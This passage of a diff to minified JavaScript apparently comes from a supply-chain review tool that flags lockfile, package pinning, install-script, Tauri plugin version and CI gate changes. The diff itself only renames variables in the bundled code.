 groupBy(added.filter(isNew2),({at:at2})=>at2.path)].flatMap(([lock,all])=>gapOf3(lock,null,all))})}function releaseOf2(each){return JSON.stringify([bytesOf2(each),
 each.checksum])}function gapOf3(lock,old,added){const[first]=added;if(first===void 0)return[];const names4=(0,import_shared_aces.someOf)(added.map(import_shared_ce.releaseText)),
 place=old===null?"":`, in the place of ${(0,import_shared_acegpst.code)(old)}`,message=`${(0,import_shared_acegpst.code)(lock)} lay there before and newly count\
 s${place}: installing takes ${names4} from it, which was not what installing took. Let your package manager write it anew.`;return[(0,import_shared_acegos.gapAt)(
-first.at,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)("counting lockfile",lock,old),message})]}function unpinned3(before2,after2){return after2.packages.
+first.at,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)("counting lockfile",lock,old),message})]}function unpinned3(before3,after2){return after2.packages.
 filter(each=>{const isFetched=each.source.kind==="registry"||each.source.kind==="tarball";return each.ecosystem==="npm"&&isFetched&&each.checksum===null&&!isOfSomeMachines(
-each)&&before2.same(each).length===0})}function isOfSomeMachines({manager,declared:declared3,scope,source}){return manager==="yarn"&&declared3!==null&&scope.isOptional&&
-(0,import_shared_ce.isOwnRegistry)(source)}function changedEntries(before2,after2){return after2.packages.filter(each=>{const old=before2.same(each).filter(({manager})=>manager===
+each)&&before3.same(each).length===0})}function isOfSomeMachines({manager,declared:declared3,scope,source}){return manager==="yarn"&&declared3!==null&&scope.isOptional&&
+(0,import_shared_ce.isOwnRegistry)(source)}function changedEntries(before3,after2){return after2.packages.filter(each=>{const old=before3.same(each).filter(({manager})=>manager===
 each.manager);return each.declared!==null&&isOther(old,each)})}function isOther(old,each){return old.length>0&&old.every(({declared:declared3})=>declared3!==null&&
-declared3!==each.declared)}function forgottenEntries(before2,after2){return after2.packages.filter(each=>each.manager==="npm"&&each.declared===null&&isOther(before2.
-same(each),each))}function unexplained(before2,after2){const added=after2.packages.filter(each=>{const{ecosystem,manager,path}=each;return ecosystem==="npm"&&manager!==
-"npm"&&path.length>1&&before2.named(each).packages.length===0});if(added.length===0)return[];const users=new Map(added.map(each=>[needed(each),[]]));for(const each of after2.
+declared3!==each.declared)}function forgottenEntries(before3,after2){return after2.packages.filter(each=>each.manager==="npm"&&each.declared===null&&isOther(before3.
+same(each),each))}function unexplained(before3,after2){const added=after2.packages.filter(each=>{const{ecosystem,manager,path}=each;return ecosystem==="npm"&&manager!==
+"npm"&&path.length>1&&before3.named(each).packages.length===0});if(added.length===0)return[];const users=new Map(added.map(each=>[needed(each),[]]));for(const each of after2.
 packages)for(const need of each.needs)users.get(key2(each,need))?.push(each);return added.filter(each=>{const all=users.get(needed(each))??[];return all.length>
-0&&all.every(user=>isLocked(user,before2)&&user.name!==each.name)})}function needed(each){return key2(each,`${each.name} ${each.version}`)}function isLocked(each,before2){
-return before2.same(each).some(({manager})=>manager===each.manager)}function key2({at:at2},need){return`${at2.path} ${need}`}function takenNames(before2,after2){
-const old=Map.groupBy(before2.packages,each=>JSON.stringify([each.ecosystem,each.alias??each.name]));return after2.packages.filter(({ecosystem,name,alias})=>{const holders=alias===
+0&&all.every(user=>isLocked(user,before3)&&user.name!==each.name)})}function needed(each){return key2(each,`${each.name} ${each.version}`)}function isLocked(each,before3){
+return before3.same(each).some(({manager})=>manager===each.manager)}function key2({at:at2},need){return`${at2.path} ${need}`}function takenNames(before3,after2){
+const old=Map.groupBy(before3.packages,each=>JSON.stringify([each.ecosystem,each.alias??each.name]));return after2.packages.filter(({ecosystem,name,alias})=>{const holders=alias===
 null?[]:old.get(JSON.stringify([ecosystem,alias]))??[];return holders.length>0&&holders.every(holder=>holder.name!==name)})}function lostLockfiles(base,head){const cargo=head.
-isEmpty("cargo")?pathsOf5(base,"cargo"):[],[before2,after2]=[locksOfNpm(base),locksOfNpm(head)],still=new Set(after2.map(folderOf5)),pinned2=new Set(after2.map(
-path=>`${(0,import_shared_ce.installerOf)(path)} ${folderOf5(path)}`)),lost2=before2.filter(path=>{const folder=folderOf5(path);if(after2.length===0)return!0;if(!isProject(
+isEmpty("cargo")?pathsOf5(base,"cargo"):[],[before3,after2]=[locksOfNpm(base),locksOfNpm(head)],still=new Set(after2.map(folderOf5)),pinned2=new Set(after2.map(
+path=>`${(0,import_shared_ce.installerOf)(path)} ${folderOf5(path)}`)),lost2=before3.filter(path=>{const folder=folderOf5(path);if(after2.length===0)return!0;if(!isProject(
 folder,head))return!1;const manager=(0,import_shared_ce.installerOf)(path);return!still.has(folder)||installs(manager,folder,head)&&!pinned2.has(`${manager} ${folder}`)});
 return[...cargo,...lost2].map(path=>{const message=`${(0,import_shared_acegpst.code)(path)} pins no versions any more, so it can't be told which code gets into \
 the app.`;return(0,import_shared_acegos.gapIn)(path,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)("lost lockfile",path),message})})}function unlockedInstallers(base,head){
@@ -11584,18 +11676,18 @@ function gapOf4({at:at2},group2,message){const rests=(0,import_shared_acegos.wor
 source),checksum]));return(0,import_shared_acegos.gapAt)(at2,{kind:"not-checked",rests,about:group2.map(import_shared_ce.packageKey),message})}function namesOf4(group2){
 return(0,import_shared_aces.someOf)(group2.map(import_shared_ce.releaseText))}var import_lt=(0,import_shared_acegoprst.__toESM)(require_lt(),1),import_valid6=(0,import_shared_acegoprst.__toESM)(
 require_valid(),1),import_parse47=(0,import_shared_acegoprst.__toESM)(require_parse(),1);function halvesIn(grants){const pinned2=grants.filter(grant2=>grant2.kind===
-"package").filter(isOfTauri4),byName3=Map.groupBy(pinned2,each=>`${each.ecosystem} ${nameOf9(each)}`),named12=name=>byName3.get(name)??[],asked4=grants.filter(grant2=>grant2.
-kind==="unpinned-package"),there=new Set([...pinned2.map(each=>`${each.ecosystem} ${folded4(nameOf9(each))}`),...asked4.map(({ecosystem,name})=>`${ecosystem} ${folded4(
-name)}`)]);return{crates:name=>named12(`cargo ${name}`),asked:name=>named12(`npm ${name}`).filter(isDirect),has:(ecosystem,name)=>there.has(`${ecosystem} ${folded4(
-name)}`),direct:pinned2.filter(isDirect),hasUnread:grants.some(({kind})=>kind==="unread-lockfile")}}function nameOf9({name,alias}){return alias??name}function folded4(name){
-return name.replaceAll("_","-").toLowerCase()}function isOfTauri4(each){return nameOf9(each).includes("tauri")}function isDirect({path}){return path.length===1}
-function minorOf(version){const parsed10=/^\d/.test(version)?(0,import_parse47.default)(version):null;return parsed10===null?null:`${parsed10.major}.${parsed10.
-minor}`}function newlyApart(base,head){const[before2,after2]=[halvesIn(base),halvesIn(head)],found12=COMPARED_HALVES.flatMap(names4=>{const apart=apartIn(after2,
-names4);return apart===null||apartIn(before2,names4)!==null?[]:[withMoved(apart,names4,before2)]}),stops2=comparesHalves(after2);return[...Map.groupBy(found12,({
-at:at2})=>at2.path).values()].flatMap(group2=>changeOf6(group2,stops2))}function apartIn(side,names4){const[crate2,another]=side.crates(names4.crate);if(crate2===
+"package").filter(isOfTauri4),byName4=Map.groupBy(pinned2,each=>`${each.ecosystem} ${nameOf10(each)}`),named12=name=>byName4.get(name)??[],asked4=grants.filter(
+grant2=>grant2.kind==="unpinned-package"),there=new Set([...pinned2.map(each=>`${each.ecosystem} ${folded4(nameOf10(each))}`),...asked4.map(({ecosystem,name})=>`${ecosystem}\
+ ${folded4(name)}`)]);return{crates:name=>named12(`cargo ${name}`),asked:name=>named12(`npm ${name}`).filter(isDirect),has:(ecosystem,name)=>there.has(`${ecosystem}\
+ ${folded4(name)}`),direct:pinned2.filter(isDirect),hasUnread:grants.some(({kind})=>kind==="unread-lockfile")}}function nameOf10({name,alias}){return alias??name}
+function folded4(name){return name.replaceAll("_","-").toLowerCase()}function isOfTauri4(each){return nameOf10(each).includes("tauri")}function isDirect({path}){
+return path.length===1}function minorOf(version){const parsed10=/^\d/.test(version)?(0,import_parse47.default)(version):null;return parsed10===null?null:`${parsed10.
+major}.${parsed10.minor}`}function newlyApart(base,head){const[before3,after2]=[halvesIn(base),halvesIn(head)],found12=COMPARED_HALVES.flatMap(names4=>{const apart=apartIn(
+after2,names4);return apart===null||apartIn(before3,names4)!==null?[]:[withMoved(apart,names4,before3)]}),stops2=comparesHalves(after2);return[...Map.groupBy(found12,
+({at:at2})=>at2.path).values()].flatMap(group2=>changeOf6(group2,stops2))}function apartIn(side,names4){const[crate2,another]=side.crates(names4.crate);if(crate2===
 void 0||another!==void 0)return null;const minor=minorOf(crate2.version);if(minor===null||minor.startsWith("0.")||minor.startsWith("1."))return null;const npm=side.
 asked(names4.npm),minors=npm.map(({version})=>minorOf(version));return npm.length>0&&minors.every(each=>each!==null&&each!==minor)?{crate:crate2,npm}:null}function withMoved({
-crate:crate2,npm},names4,before2){const known13={cargo:before2.crates(names4.crate),npm:before2.asked(names4.npm)},hasMoved=each=>!known13[each.ecosystem].some(
+crate:crate2,npm},names4,before3){const known13={cargo:before3.crates(names4.crate),npm:before3.asked(names4.npm)},hasMoved=each=>!known13[each.ecosystem].some(
 ({version})=>version===each.version),moved=npm.find(hasMoved)??(hasMoved(crate2)?crate2:npm[0])??crate2,other=moved.ecosystem==="npm"?moved:npm[0]??moved;return{
 crate:{name:names4.crate,version:crate2.version},npm:{name:names4.npm,version:other.version},moved:moved.ecosystem,at:placeOf7(moved,known13[moved.ecosystem])}}
 function placeOf7(moved,known13){return known13.length===0?moved.at:moved.lines.version}var COMPARING="2.8.0";function comparesHalves(side){const pinned2=side.direct.
@@ -11605,16 +11697,16 @@ pairs=group2.map(({at:_3,...pair})=>pair),versions=`${titleOf3(crate2)} and ${ti
 n-halves-differ",pairs,stops:stops2,at:at2,identity:JSON.stringify(["plugin-halves-differ",pairs.map(identityOf8)]),witness:{kind:"halves",platform:"any",crate:crate2,
 npm,text:stops2?`tauri build  # stops: ${versions} differ`:`tauri build  # makes an app of ${versions}`}}]}function titleOf3({name,version}){return`${name} ${version}`}
 function identityOf8({crate:crate2,npm}){return[crate2.name,minorOf(crate2.version),minorOf(npm.version)]}function lostGuards2(old,{settings:settings3},installers){
-const byName3=Map.groupBy(settings3,({name})=>name);return(old?.settings??[]).filter(each=>each.effect!=="less"||each.decides!=="guard"||each.name===import_shared_ce.TRUSTED_LIST&&
-!installers.includes("bun")?!1:!(byName3.get(each.name)??[]).some(other=>other.effect==="more"||standsFor(other,each,installers)))}function standsFor(guard2,other,installers){
+const byName4=Map.groupBy(settings3,({name})=>name);return(old?.settings??[]).filter(each=>each.effect!=="less"||each.decides!=="guard"||each.name===import_shared_ce.TRUSTED_LIST&&
+!installers.includes("bun")?!1:!(byName4.get(each.name)??[]).some(other=>other.effect==="more"||standsFor(other,each,installers)))}function standsFor(guard2,other,installers){
 return guard2.effect==="less"&&isHeardBy(guard2,other,installers)&&(isSame7(guard2,other)||isMore(guard2,other))}function isSame7(guard2,other){return guard2.of===
 other.of&&guard2.value===other.value}function isMore(guard2,other){return guard2.name==="package-manager-hash"?releaseIn(guard2)!==releaseIn(other):minutesOf(guard2.
-value)>=minutesOf(other.value)}function releaseIn({value}){return value.split("+",1)[0]??""}function installDifference(before2,after2){const changes2=new Map,gaps=[];
-for(const policy of after2.policies){const old=counterpartOf(policy,before2,after2),installers=everInstallersIn(old,policy,before2,after2),known13=Map.groupBy(old?.
+value)>=minutesOf(other.value)}function releaseIn({value}){return value.split("+",1)[0]??""}function installDifference(before3,after2){const changes2=new Map,gaps=[];
+for(const policy of after2.policies){const old=counterpartOf(policy,before3,after2),installers=everInstallersIn(old,policy,before3,after2),known13=Map.groupBy(old?.
 settings??[],({name})=>name);for(const setting44 of newSettings(old,policy,installers)){const change2=changeFor(setting44,known13.get(setting44.name)??[],policy);
 change2===void 0?gaps.push(unknownSetting(setting44)):changes2.has(change2.identity)||changes2.set(change2.identity,change2)}for(const setting44 of lostGuards2(
 old,policy,installers)){const change2=guardChange(setting44,policy);changes2.has(change2.identity)||changes2.set(change2.identity,change2)}gaps.push(...lostSettings2(
-old,policy))}return{changes:[...changes2.values()],gaps}}function everInstallersIn(old,policy,before2,after2){const were=old===void 0?[]:installersIn(old,before2);
+old,policy))}return{changes:[...changes2.values()],gaps}}function everInstallersIn(old,policy,before3,after2){const were=old===void 0?[]:installersIn(old,before3);
 return[...new Set([...were,...installersIn(policy,after2)])]}function newSettings(old,{settings:settings3},installers){const said2=Map.groupBy(old?.settings??[],
 meaningOf4),named12=Map.groupBy(old?.settings??[],({name})=>name),added=settings3.filter(each=>{const isApproval=each.decides==="approval"&&each.of!==null,isKnown3=said2.
 get(meaningOf4(each))?.some(other=>isApproval||isHeardBy(other,each,installers));return each.effect!=="less"&&isKnown3!==!0&&!followsFrom(each,named12.get(each.
@@ -11623,8 +11715,8 @@ each)}return[...first.values()]}function followsFrom(setting44,old){const{explai
 void 0&&!old.some(each=>each.of===of2&&each.explainedBy===explainedBy),isLonger=decides3==="guard"&&of2===null&&old.some(each=>each.effect===effect&&minutesOf(value)>=
 minutesOf(each.value));return isExplained||isLonger}var RULES2={approval:"build/install-script-approved",source:"packages/source-replaced",patch:"packages/sourc\
 e-replaced",code:"build/installer-extended",guard:"packages/install-guard-removed"};function changeFor(setting44,old,{folder}){const{decides:decides3,of:of2}=setting44;
-if(decides3==="unknown")return;const before2=of2===null?old.find(each=>each.of===null):void 0;return{domain:"packages",direction:"widened",rule:RULES2[decides3],
-ecosystem:"npm",setting:setting44,before:before2?.written??null,packages:of2===null?[]:[of2],owner:"stranger",folder,at:setting44.at,identity:JSON.stringify(["s\
+if(decides3==="unknown")return;const before3=of2===null?old.find(each=>each.of===null):void 0;return{domain:"packages",direction:"widened",rule:RULES2[decides3],
+ecosystem:"npm",setting:setting44,before:before3?.written??null,packages:of2===null?[]:[of2],owner:"stranger",folder,at:setting44.at,identity:JSON.stringify(["s\
 etting",meaningOf4(setting44)]),witness:witnessFor2(setting44,WITNESSES[decides3](setting44))}}function guardChange(setting44,policy){const now=policy.settings.
 find(({name,of:of2})=>name===setting44.name&&of2===setting44.of);return{domain:"packages",direction:"widened",rule:"packages/install-guard-removed",ecosystem:"n\
 pm",setting:setting44,before:setting44.written,packages:setting44.of===null?[]:[setting44.of],owner:"stranger",folder:policy.folder,was:setting44.at,at:now?.at??
@@ -11642,12 +11734,12 @@ setting44),message})}function lostSettings2(old,{settings:settings3,path}){const
 each))&&!replaced2.has(each.name)).map(setting44=>{const message=`${inWords5(setting44)} is gone: it decided what installing runs, or where packages come from. \
 Check that this is meant.`;return(0,import_shared_acegos.gapIn)(path,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)("gone",meaningOf4(setting44)),message})})}
 function inWords5({written:written6,from}){return`${(0,import_shared_acegpst.code)(written6)}${from==="package.json"?" in package.json":""}`}function newlyAlone(base,head){
-const known13=new Set(alone(halvesIn(base)).map(keyOf8)),added=alone(halvesIn(head)).filter(each=>!known13.has(keyOf8(each)));return[...Map.groupBy(added,({ecosystem,
-at:at2})=>JSON.stringify([ecosystem,at2.path])).values()].flatMap(changeOf7)}function keyOf8({ecosystem,name}){return`${ecosystem} ${name}`}function alone(side){
+const known13=new Set(alone(halvesIn(base)).map(keyOf9)),added=alone(halvesIn(head)).filter(each=>!known13.has(keyOf9(each)));return[...Map.groupBy(added,({ecosystem,
+at:at2})=>JSON.stringify([ecosystem,at2.path])).values()].flatMap(changeOf7)}function keyOf9({ecosystem,name}){return`${ecosystem} ${name}`}function alone(side){
 const found12=side.direct.flatMap(each=>{const other=otherOf(each);if(other===void 0||isThere(side,each.ecosystem==="npm"?"cargo":"npm",other))return[];const{ecosystem,
-version,at:at2}=each;return[{ecosystem,name:nameOf9(each),version,other,at:at2}]});return[...new Map(found12.map(each=>[keyOf8(each),each])).values()]}function isThere(side,ecosystem,name){
+version,at:at2}=each;return[{ecosystem,name:nameOf10(each),version,other,at:at2}]});return[...new Map(found12.map(each=>[keyOf9(each),each])).values()]}function isThere(side,ecosystem,name){
 return side.hasUnread?!0:!side.has(ecosystem,CORE_HALVES[ecosystem==="npm"?"npm":"crate"])||side.has(ecosystem,name)}var NPM_OF=new Map(PLUGIN_HALVES.map(({crate:crate2,
-npm})=>[crate2,npm]));function otherOf(each){const name=nameOf9(each);if(each.ecosystem==="cargo")return NPM_OF.get(name);const[,plugin]=/^@tauri-apps\/plugin-(.+)$/.
+npm})=>[crate2,npm]));function otherOf(each){const name=nameOf10(each);if(each.ecosystem==="cargo")return NPM_OF.get(name);const[,plugin]=/^@tauri-apps\/plugin-(.+)$/.
 exec(name)??COMMUNITY.exec(name)??[];return plugin&&`tauri-plugin-${plugin}`}var COMMUNITY=/^(?:@[^/]+\/)?tauri-plugin-(.+?)(?:-api)?$/;function changeOf7(group2){
 const[first]=group2;if(first===void 0)return[];const{ecosystem,name,version,other,at:at2}=first,[own,missing2]=[{name,version},{name:other,version:null}],[fetch2,
 verb]=ecosystem==="npm"?["npm ci","answers"]:["cargo fetch","calls"];return[{domain:"packages",direction:"widened",rule:"packages/plugin-half-missing",ecosystem,
@@ -11668,13 +11760,13 @@ difference.package,difference)}function placeIn4(of2,{news:{rule},package:each,f
 rule==="packages/checksum-changed"?of2.lines.checksum:from.version===each.version?of2.at:of2.lines.version}function identityOf9({news,package:each,all}){const what=news.
 rule.slice(news.rule.indexOf("/")+1),names4=all.map(({name,source})=>[name,originOf4(source)]),bytes=what==="checksum-changed"||what==="version-withdrawn"?[each.
 version,each.checksum]:[],more=news.rule==="build/install-script-added"?[news.runs]:[];return JSON.stringify([what,each.ecosystem,names4,...bytes,...more])}function newlyBuilt(base,head){
-const before2=base.filter(grant2=>grant2.kind==="folder-code"),files=new Set(before2.map(fileOf3)),folders=new Set(before2.map(({folder})=>folder)),standing2=new Set(
-base.flatMap(grant2=>grant2.kind==="standing-code"?[grant2.path]:[])),replaced2=new Set([...before2.filter(({role})=>role!=="build-script").map(({crate:crate2})=>crate2),
+const before3=base.filter(grant2=>grant2.kind==="folder-code"),files=new Set(before3.map(fileOf2)),folders=new Set(before3.map(({folder})=>folder)),standing2=new Set(
+base.flatMap(grant2=>grant2.kind==="standing-code"?[grant2.path]:[])),replaced2=new Set([...before3.filter(({role})=>role!=="build-script").map(({crate:crate2})=>crate2),
 ...base.flatMap(grant2=>grant2.kind==="package"&&grant2.ecosystem==="cargo"&&grant2.source.kind!=="path"?[grant2.name]:[])]),installed=new Set(base.flatMap(grant2=>grant2.
 kind==="install-policy"&&grant2.installs.withScripts>0?[grant2.folder===""?"package.json":`${grant2.folder}/package.json`]:[])),told3=head.filter(grant2=>grant2.
-kind==="folder-code").filter(each=>!files.has(fileOf3(each))&&!installed.has(each.path)).filter(each=>each.role!=="library"||replaced2.has(each.crate)).filter(each=>standing2.
+kind==="folder-code").filter(each=>!files.has(fileOf2(each))&&!installed.has(each.path)).filter(each=>each.role!=="library"||replaced2.has(each.crate)).filter(each=>standing2.
 has(each.path)||!folders.has(each.folder)&&standing2.has(`${each.folder}/`)).sort((a3,b5)=>ORDER2.indexOf(a3.role)-ORDER2.indexOf(b5.role));return[...Map.groupBy(
-told3,({folder})=>folder).values()].flatMap(gapOf5)}function fileOf3({path,role}){return`${role} ${path}`}var ORDER2=["install-script","build-script","proc-macr\
+told3,({folder})=>folder).values()].flatMap(gapOf5)}function fileOf2({path,role}){return`${role} ${path}`}var ORDER2=["install-script","build-script","proc-macr\
 o","library"],ACTS={"install-script":"runs, when packages are installed, the scripts in","build-script":"runs","proc-macro":"loads into the compiler",library:"c\
 ompiles, in the place of other code,"};function gapOf5(files){const[first]=files;if(first===void 0)return[];const{crate:crate2,folder,askedAt:askedAt2,role}=first,
 message=`Building the app newly ${files.map(({role:role2,path})=>`${ACTS[role2]} ${(0,import_shared_acegpst.code)(path)}`).join(" and ")}, of ${(0,import_shared_acegpst.code)(
@@ -11685,8 +11777,8 @@ flatMap(tellersIn));return changes2.map(change2=>{const{setting:setting44,ecosys
 name!==null?tellers.get((0,import_shared_ce.packageKey)({ecosystem,name})):void 0;return toldBy2===void 0?change2:{...change2,toldBy:toldBy2}})}function tellersIn(change2){
 const{rule,ecosystem}=change2;return rule==="build/build-script-added"||rule==="build/install-script-added"&&change2.runs?change2.running.filter(running=>(0,import_shared_aceps.atLeast)(
 (0,import_shared_ce.severityOfCode)(running),"medium")).map(({name})=>[(0,import_shared_ce.packageKey)({ecosystem,name}),rule]):[]}function newlyUnpinned(base,head){
-const pinned2=new Set(base.flatMap(grant2=>grant2.kind==="package"?[(0,import_shared_ce.packageKey)(grant2)]:[])),before2=unpinnedIn2(base),known13=new Set(before2.
-map(unpinnedKey)),hadAny=new Set([...pinned2].map(key3=>key3.split(" ",1)[0]));for(const{ecosystem}of before2)hadAny.add(ecosystem);const locked=new Set([...changedLocks(
+const pinned2=new Set(base.flatMap(grant2=>grant2.kind==="package"?[(0,import_shared_ce.packageKey)(grant2)]:[])),before3=unpinnedIn2(base),known13=new Set(before3.
+map(unpinnedKey)),hadAny=new Set([...pinned2].map(key3=>key3.split(" ",1)[0]));for(const{ecosystem}of before3)hadAny.add(ecosystem);const locked=new Set([...changedLocks(
 base,head),...changedLocks(head,base)]),isTold2=({ecosystem,at:at2})=>ecosystem==="npm"&&withAncestors2(folderOf5(at2.path)).some(folder=>locked.has(folder)),isNew2=each=>known13.
 has(unpinnedKey(each))?!1:each.lock!==null?!0:hadAny.has(each.ecosystem)&&!pinned2.has((0,import_shared_ce.packageKey)(each))&&!isTold2(each),added=unpinnedIn2(
 head).filter(isNew2);return[...Map.groupBy(added,({at:at2})=>at2.path).values()].flatMap(changeOf9)}function changedLocks(grants,others){const same=new Set(others.
@@ -11696,44 +11788,44 @@ return JSON.stringify([ecosystem,name,from,lock===null?null:wanted])}function ch
 from,lock,at:at2}=first;return[{domain:"packages",direction:"widened",rule:"packages/unpinned",ecosystem,wanted:[...new Set(all.map(each=>each.wanted))],from,lock,
 at:at2,identity:JSON.stringify(["unpinned",ecosystem,all.map(each=>[each.name,each.wanted,each.from])]),witness:{kind:"package",platform:"any",ecosystem,name,version:wanted,
 source:from,text:`${commandFor3(first)}  # takes what fits ${wanted} that day`}}]}function commandFor3({ecosystem,lock}){return ecosystem==="cargo"?import_shared_ce.INSTALLS.
-cargo:`${lock===null?"npm":(0,import_shared_ce.installerOf)(lock.path)} install`}var packageComparison={domain:"packages",compare(base,head){const[before2,after2]=[
-inventoryOf(base??[]),inventoryOf(head)],settings3=installDifference(before2,after2),replaced2=newBuildSettings(before2,after2),widened2=differences(before2,after2,
-replaced2).map(each=>changeOf8(each,"widened")),permitted=[...settings3.changes,...policyChanges(base??[],head)],changes2=[...widened2,...taken3(before2,after2).
+cargo:`${lock===null?"npm":(0,import_shared_ce.installerOf)(lock.path)} install`}var packageComparison={domain:"packages",compare(base,head){const[before3,after2]=[
+inventoryOf(base??[]),inventoryOf(head)],settings3=installDifference(before3,after2),replaced2=newBuildSettings(before3,after2),widened2=differences(before3,after2,
+replaced2).map(each=>changeOf8(each,"widened")),permitted=[...settings3.changes,...policyChanges(base??[],head)],changes2=[...widened2,...taken3(before3,after2).
 map(each=>changeOf8(each,"narrowed")),...newlyUnpinned(base??[],head),...newlyApart(base??[],head),...newlyAlone(base??[],head),...newlyAmbiguous(base??[],head),
-...foldedSettings(withTellers(permitted,widened2)),...buildSettingChanges(replaced2,before2)],gaps=[...packageGaps(before2,after2),...settings3.gaps,...newlyBuilt(
+...foldedSettings(withTellers(permitted,widened2)),...buildSettingChanges(replaced2,before3)],gaps=[...packageGaps(before3,after2),...settings3.gaps,...newlyBuilt(
 base??[],head)];return{changes:changes2,gaps}},allows:allowsPackage,extentOf:extentOf5},REMOVABLE=new Set(["build/build-script-added","build/proc-macro-added","\
 build/install-script-added","packages/links-added","packages/plugin-added","packages/package-added"]);function taken3(base,head){return differences(head,base).filter(
 each=>!each.lockfileIsNew&&isLoss(each))}function isLoss({news:{rule},from}){return REMOVABLE.has(rule)||rule==="packages/source-changed"&&from===void 0}function stops(gate,occurrence){
 const{unmet,moved,severity}=occurrence;return gate.lenient===null&&gate.triggers.some(trigger=>starts2(trigger,occurrence))&&!gate.conditions.some(({text:text3})=>text3===
 unmet)&&moved!==gate.name&&(moved===null||moved!==gate.movable)&&(severity===null||gate.failOn!==null&&(0,import_shared_aceps.atLeast)(severity,gate.failOn.severity))}
 function starts2({event:event2,types,filters},occurrence){const{type,branch,path,isEdited}=occurrence;return!(event2===occurrence.event||event2===`${occurrence.
-event}_target`)||isEdited&&event2==="pull_request"||!types.includes(type)?!1:filters.every(filter=>filter.of==="type"||takes2(filter,filter.of==="branch"?branch:
-path))}function takes2({patterns:patterns3,isIgnoring},name){return(patterns3.has("**")||name!==null&&patterns3.has(name))!==isIgnoring}function stopsPlainly(gates,occurrence){
+event}_target`)||isEdited&&event2==="pull_request"||!types.includes(type)?!1:filters.every(filter=>filter.of==="type"||takes3(filter,filter.of==="branch"?branch:
+path))}function takes3({patterns:patterns3,isIgnoring},name){return(patterns3.has("**")||name!==null&&patterns3.has(name))!==isIgnoring}function stopsPlainly(gates,occurrence){
 const{event:event2,type,branch,path,isEdited,unmet,moved,severity}=occurrence;return gates.filter(gate=>{const running=gate.triggers.filter(trigger=>{const isFromDefault=trigger.
 event.endsWith("_target"),isMeant3=trigger.event.replace(/_target$/,"")===event2&&trigger.types.some(each=>each===type),refusing2=trigger.filters.filter(({of:of2,
 patterns:patterns3,isIgnoring})=>{if(of2==="type")return!1;const name=of2==="branch"?branch:path,isThere2=[...patterns3].some(each=>each==="**"||each===name);return isIgnoring?
 isThere2:!isThere2});return isMeant3&&refusing2.length===0&&!(isEdited&&event2==="pull_request"&&!isFromDefault)}),names4=[gate.name,gate.movable].filter(each=>each!==
 null&&each===moved),missing2=gate.conditions.filter(({text:text3})=>text3===unmet),isStrict=severity===null||gate.failOn!==null&&(0,import_shared_aceps.atLeast)(
 severity,gate.failOn.severity);return running.length>0&&names4.length===0&&missing2.length===0&&isStrict&&!gate.lenient}).length>0}var EVENTS=["pull_request","m\
-erge_group","push"],MOST_NAMES2=50;function stoppedBy(base,head){const usual=base.flatMap(gate=>gate.triggers.flatMap(trigger=>usualOf(trigger))).toSorted((one3,other)=>EVENTS.
+erge_group","push"],MOST_NAMES3=50;function stoppedBy(base,head){const usual=base.flatMap(gate=>gate.triggers.flatMap(trigger=>usualOf(trigger))).toSorted((one3,other)=>EVENTS.
 indexOf(one3.event)-EVENTS.indexOf(other.event)),changes2=specialities([...base,...head]),stopped=[...usual,...usual.flatMap(plain8=>changes2.map(change2=>({...plain8,
 ...change2})))].filter(each=>base.some(gate=>stops(gate,each)));return[...new Map(stopped.map(each=>[JSON.stringify(each),each])).values()]}function usualOf(trigger){
 const event2=EVENTS.find(each=>each===trigger.event.replace(/_target$/,""));if(event2===void 0)return[];const plain8={isEdited:!1,unmet:null,moved:null,severity:null};
 return namesOf5("branch",[trigger]).flatMap(branch=>namesOf5("path",[trigger]).map(path=>({event:event2,type:trigger.types[0]??"",branch,path,...plain8}))).filter(
 each=>starts2(trigger,each)).slice(0,1)}function specialities(gates){const triggers=gates.flatMap(gate=>gate.triggers),types=new Set(triggers.flatMap(trigger=>trigger.
 types)),unmet=new Set(gates.flatMap(({conditions})=>conditions.map(({text:text3})=>text3))),moved=new Set(gates.flatMap(({name,movable})=>[name,...movable===null?
-[]:[movable]]));return[...[...types].slice(0,MOST_NAMES2).map(type=>({type})),...namesOf5("branch",triggers).map(branch=>({branch})),...namesOf5("path",triggers).
-map(path=>({path})),...[...unmet].slice(0,MOST_NAMES2).map(text3=>({unmet:text3})),...[...moved].map(name=>({moved:name})),...import_shared_aceps.SEVERITIES.toReversed().
+[]:[movable]]));return[...[...types].slice(0,MOST_NAMES3).map(type=>({type})),...namesOf5("branch",triggers).map(branch=>({branch})),...namesOf5("path",triggers).
+map(path=>({path})),...[...unmet].slice(0,MOST_NAMES3).map(text3=>({unmet:text3})),...[...moved].map(name=>({moved:name})),...import_shared_aceps.SEVERITIES.toReversed().
 map(severity=>({severity})),{isEdited:!0}]}function namesOf5(of2,triggers){const filters=triggers.flatMap(trigger=>trigger.filters).filter(filter=>filter.of===of2);
-return[null,...new Set(filters.flatMap(({patterns:patterns3})=>[...patterns3]).slice(0,MOST_NAMES2))]}function reasonsOf(gate,occurrence,was){const{unmet,moved,
+return[null,...new Set(filters.flatMap(({patterns:patterns3})=>[...patterns3]).slice(0,MOST_NAMES3))]}function reasonsOf(gate,occurrence,was){const{unmet,moved,
 severity}=occurrence,conditions=gate.conditions.filter(({text:text3})=>text3===unmet),isMoved=moved!==null&&(moved===gate.name||moved===gate.movable),isLax=severity!==
 null&&!(gate.failOn!==null&&(0,import_shared_aceps.atLeast)(severity,gate.failOn.severity));return[...gate.lenient===null?[]:[causeBy(was.lenient,gate.lenient,gate.
 run.at)],...conditions.map(condition=>causeBy(null,condition,condition.at)),...isMoved?[causeBy(was.run,gate.run,gate.run.at)]:[],...isLax?[causeBy(was.failOn,gate.
-failOn,gate.run.at)]:[],...triggerReasons(gate,occurrence,was)]}function causeBy(before2,after2,at2){return{setting:after2?.setting??before2?.setting??"",before:before2?.
+failOn,gate.run.at)]:[],...triggerReasons(gate,occurrence,was)]}function causeBy(before3,after2,at2){return{setting:after2?.setting??before3?.setting??"",before:before3?.
 text??null,after:after2?.text??null,at:after2?.at??at2}}function triggerReasons({triggers,on:on3},occurrence,was){if(triggers.some(trigger=>starts2(trigger,occurrence)))
-return[];const before2=was.triggers.find(trigger=>starts2(trigger,occurrence)),own=triggers.filter(({event:event2})=>event2.replace(/_target$/,"")===occurrence.
-event),ofPullRequest=own.find(trigger=>starts2(trigger,{...occurrence,isEdited:!1}));if(ofPullRequest!==void 0)return[causeBy(event(before2),event(ofPullRequest),
